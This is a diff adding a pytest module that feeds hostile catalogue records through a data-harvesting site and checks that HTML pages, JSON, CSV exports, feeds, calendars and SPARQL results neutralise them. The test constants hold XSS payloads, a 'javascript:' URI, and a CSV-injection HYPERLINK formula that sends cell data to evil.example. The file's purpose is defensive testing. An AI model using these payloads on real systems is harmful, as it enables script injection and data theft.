@@ -1,0 +1,233 @@
+"""Records that mean harm, taken in like any other: nothing that we hand out runs them, links them or counts with them."""
+
+from __future__ import annotations
+
+import csv
+import io
+import json
+import shutil
+from collections.abc import Iterator
+from datetime import date
+from pathlib import Path
+from urllib.parse import quote
+
+import feedparser
+import httpx
+import icalendar
+import pytest
+from bs4 import BeautifulSoup
+
+from homefinder.building import finish
+from homefinder.fetch.replay import Replay
+from homefinder.harvesting import harvest_replay, sources_of
+from homefinder.settings import ROOT, Settings
+from tests.contract.commands import rows, well
+from tests.contract.made_site import served
+
+SCRIPT = "<script>alert(1)</script><img src=x onerror=alert(2)> children"
+CLOSING = '</p></textarea></title>"><script>alert(3)</script> ]]> missing from care'
+ACTIVE = "javascript:alert(4)"
+BACKWARDS = "Census of \u202eslrig dna syob\u2066 children"
+FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"children in need census")'
+LONG = "Children " + "x" * 1_000_000
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
+ACTIVE_SCHEMES = ("javascript:", "data:", "vbscript:")
+
+DECLARATION = """
+id: {id}
+title: "{title}"
+publisher: Example Office
+licence: not stated
+adapter: csv_table
+schedule: "0 4 * * *"
+min_interval_s: 0
+completeness: full
+expect: {{min_records: 1, max_drop: 0.9}}
+parameters:
+  url: https://standards.example.org/{id}.csv
+  mapping:
+    key: "{{id}}"
+    kind: {kind}
+    taken_in: Made to do harm.
+    fields: {{title: title, description: description, publisher: publisher, status: status, url: url,
+      modified: updated, closes: updated}}
+    addresses:
+      - {{role: landing, url: url, title: title}}
+"""
+COLUMNS = ("id", "title", "description", "publisher", "status", "url", "updated")
+TITLES = {"script": SCRIPT, "backwards": BACKWARDS, "formula": FORMULA, "long": LONG}
+KINDS = {"harm": "data-collection", "views": "consultation"}
+
+
+def table(prefix: str) -> bytes:
+    """Rows with one hostile title each and every other field hostile too."""
+    out = io.StringIO()
+    writer = csv.writer(out)
+    writer.writerow(COLUMNS)
+    for key, title in TITLES.items():
+        writer.writerow((key, prefix + title, CLOSING, FORMULA, SCRIPT, ACTIVE, "2027-03-01"))
+    return out.getvalue().encode()
+
+
+@pytest.fixture(scope="module")
+def data(tmp_path_factory: pytest.TempPathFactory) -> Path:
+    """The catalogue of two sources that were harvested twice, with other titles the second time."""
+    home = tmp_path_factory.mktemp("home")
+    shutil.copytree(ROOT / "vocab", home / "vocab")
+    (home / "sources").mkdir()
+    settings = Settings(data=tmp_path_factory.mktemp("hostile"), home=home)
+    for name, kind in KINDS.items():
+        text = DECLARATION.format(id=name, title=SCRIPT.replace('"', ""), kind=kind)
+        (home / "sources" / f"{name}.yml").write_text(text, encoding="utf-8")
+    for day, prefix in ((date(2026, 10, 1), "Old "), (date(2026, 10, 2), "")):
+        for name in KINDS:
+            folder = home / "recordings" / name / day.isoformat()
+            folder.mkdir(parents=True)
+            (folder / "body").write_bytes(table(prefix))
+            answer = {"url": f"https://standards.example.org/{name}.csv", "status": 200, "body": "body",
+                      "headers": {"content-type": "text/csv"}}  # fmt: skip
+            (folder / "responses.jsonl").write_text(json.dumps(answer), encoding="utf-8")
+            outcome = harvest_replay(settings, sources_of(settings)[name], Replay(name, day, folder))
+            assert outcome.state == "committed", outcome.reason
+    with pytest.MonkeyPatch.context() as environment:
+        environment.setenv("HOMEFINDER_HOME", str(home))
+        finish(settings)
+    assert {row["title"] for row in rows(settings.data, "SELECT title FROM homes")} == set(TITLES.values())
+    return settings.data
+
+
+@pytest.fixture(scope="module")
+def client(data: Path) -> Iterator[httpx.Client]:
+    (home,) = data.parent.glob("home*")
+    with served(data, {"HOMEFINDER_HOME": str(home)}) as url, httpx.Client(base_url=url, timeout=60) as found:
+        yield found
+
+
+@pytest.fixture(scope="module")
+def addresses(data: Path) -> tuple[str, ...]:
+    """Every page that shows something of the hostile records."""
+
+    def first(sql: str) -> list[str]:
+        return [str(row["id"]) for row in rows(data, sql, name="catalogue.db")]
+
+    homes = first("SELECT id FROM homes ORDER BY id")
+    needs = first("SELECT DISTINCT need_id AS id FROM candidates ORDER BY 1 LIMIT 1")
+    assert needs, "a hostile home must stand among the candidates of a need"
+    owners, events = first("SELECT id FROM publishers"), first("SELECT id FROM events WHERE kind = 'retitled'")
+    assert owners
+    assert events
+    records = first("SELECT id FROM records ORDER BY id")
+    things = (("home", homes), ("compare", homes), ("need", needs), ("pack", needs), ("owner", owners),
+              ("change", events), ("record", records), ("source", list(KINDS)))  # fmt: skip
+    return (
+        "/", "/search?q=children+missing+from+care", f"/search?q={quote(CLOSING)}", "/homes", f"/homes?q={quote(SCRIPT)}",
+        "/needs", "/owners", "/changes", "/calendar", "/load", "/map", "/matrix", "/sources", "/run/1", "/requests",
+        "/themes", "/audit", f"/feedback?page={quote(CLOSING)}", f"/sparql?query={quote(CLOSING)}",
+        *(f"/{kind}/{quote(identifier, safe='')}" for kind, found in things for identifier in found),
+        "/catalogue", "/catalogue/homes", "/catalogue/records", "/catalogue/homes?_facet=title",
+        "/catalogue/homes-by-words?words=children", f"/catalogue?sql={quote('SELECT title, url FROM homes')}",
+    )  # fmt: skip
+
+
+def with_form(address: str, form: str) -> str:
+    path, mark, query = address.partition("?")
+    return f"{path if path != '/' else '/index'}.{form}{mark}{query}" if path != "/" else ""
+
+
+def test_no_page_runs_or_links_what_a_record_says(client: httpx.Client, addresses: tuple[str, ...]) -> None:
+    shown = 0
+    for address in addresses:
+        answer = client.get(address)
+        assert answer.status_code == 200, (address, answer.text[:300])
+        page = BeautifulSoup(answer.text, "lxml")
+        scripts = [item.get_text() for item in page.find_all("script")]
+        assert not [text for text in scripts if "alert(" in text and "</script" in text.lower()], address
+        assert not page.find_all("img", src="x"), address
+        assert not [item for item in page.find_all("script") if item.get_text().startswith("alert(")], address
+        for item in page.find_all(True):
+            assert not [name for name in item.attrs if name.startswith("on")], (address, str(item)[:200])
+            for name in ("href", "src", "action", "formaction", "xlink:href"):
+                value = str(item.get(name) or "").strip().lower()
+                assert not value.startswith(ACTIVE_SCHEMES), (address, str(item)[:200])
+        shown += "alert(1)" in page.get_text()
+    assert shown > len(addresses) / 2, "the words must be shown, as words"
+
+
+def test_json_tells_the_words_as_they_were_published(client: httpx.Client, addresses: tuple[str, ...]) -> None:
+    told = [client.get(with_form(address, "json")) for address in addresses if with_form(address, "json")]
+    good = [answer for answer in told if answer.status_code == 200]
+    assert len(good) > 20
+    for answer in good:
+        assert answer.headers["content-type"].startswith("application/json"), answer.url
+        assert answer.headers["x-content-type-options"] == "nosniff"
+        answer.json()
+
+
+def test_no_cell_of_a_csv_is_a_formula(client: httpx.Client, addresses: tuple[str, ...]) -> None:
+    csv.field_size_limit(10_000_000)
+    guarded = 0
+    for address in (with_form(address, "csv") for address in addresses):
+        answer = client.get(address) if address else None
+        if answer is None or answer.status_code != 200 or "csv" not in answer.headers["content-type"]:
+            continue
+        cells = [cell for row in csv.reader(io.StringIO(answer.text)) for cell in row]
+        assert not [cell[:80] for cell in cells if begins_a_formula(cell)], address
+        guarded += any(cell.startswith("'=") for cell in cells)
+    assert guarded > 3
+
+
+def begins_a_formula(cell: str) -> bool:
+    """Numbers may have a sign."""
+    try:
+        float(cell)
+    except ValueError:
+        return cell.startswith(FORMULA_STARTS)
+    return False
+
+
+def test_streamed_csv_of_a_table_is_guarded(client: httpx.Client) -> None:
+    for address in ("/catalogue/homes.csv?_stream=on", "/catalogue/homes.csv?_dl=on", "/catalogue/homes.csv?_labels=on"):
+        text = client.get(address).text
+        cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
+        assert f"'{FORMULA}" in cells
+        assert not [cell[:80] for cell in cells if begins_a_formula(cell)], address
+
+
+@pytest.mark.parametrize("form", ["csv", "sssom"])
+def test_exports_hold_no_formula(data: Path, form: str) -> None:
+    out = data / f"out.{form}"
+    well("export", form, "--out", out, data=data)
+    delimiter = "\t" if form == "sssom" else ","
+    lines = [line for line in out.read_text(encoding="utf-8").splitlines(keepends=True) if not line.startswith("#")]
+    cells = [cell for row in csv.reader(io.StringIO("".join(lines)), delimiter=delimiter) for cell in row]
+    assert len(cells) > 20
+    assert not [cell[:80] for cell in cells if begins_a_formula(cell)]
+
+
+def test_feeds_and_calendars_carry_text(client: httpx.Client) -> None:
+    feed = client.get("/feeds/all.atom")
+    parsed = feedparser.parse(feed.content, sanitize_html=False)
+    assert not parsed.bozo, parsed.get("bozo_exception")
+    assert parsed.entries
+    for entry in parsed.entries:
+        assert entry.title_detail.type == "text/plain"
+        assert all(link.href.startswith("http") for link in entry.links)
+        for part in [*entry.get("content", []), entry.get("summary_detail", {"type": "text/plain", "value": ""})]:
+            if part["type"] != "text/plain":
+                assert not BeautifulSoup(part["value"], "lxml").find(["script", "img"]), part
+    calendar = client.get("/calendars/all.ics")
+    entries = icalendar.Calendar.from_ical(calendar.content).walk("VEVENT")
+    assert entries
+    assert not [entry for entry in entries if str(entry.get("url", "")).startswith(ACTIVE_SCHEMES)]
+    assert all(len(line) <= 75 for line in calendar.content.split(b"\r\n"))
+
+
+def test_sparql_gives_literals(client: httpx.Client) -> None:
+    query = "SELECT ?thing ?title WHERE { ?thing <http://purl.org/dc/terms/title> ?title }"
+    answer = client.get("/sparql", params={"query": query}, headers={"accept": "application/sparql-results+json"})
+    found = answer.json()["results"]["bindings"]
+    assert SCRIPT in {row["title"]["value"] for row in found}
+    assert not [row for row in found if row["thing"]["value"].startswith(ACTIVE_SCHEMES)]
+    graph = client.get("/sparql", params={"query": "SELECT ?o WHERE { GRAPH ?g { ?s ?p ?o FILTER(isIRI(?o)) } }"},
+                       headers={"accept": "application/sparql-results+json"}).json()  # fmt: skip
+    assert not [row for row in graph["results"]["bindings"] if row["o"]["value"].startswith(ACTIVE_SCHEMES)]
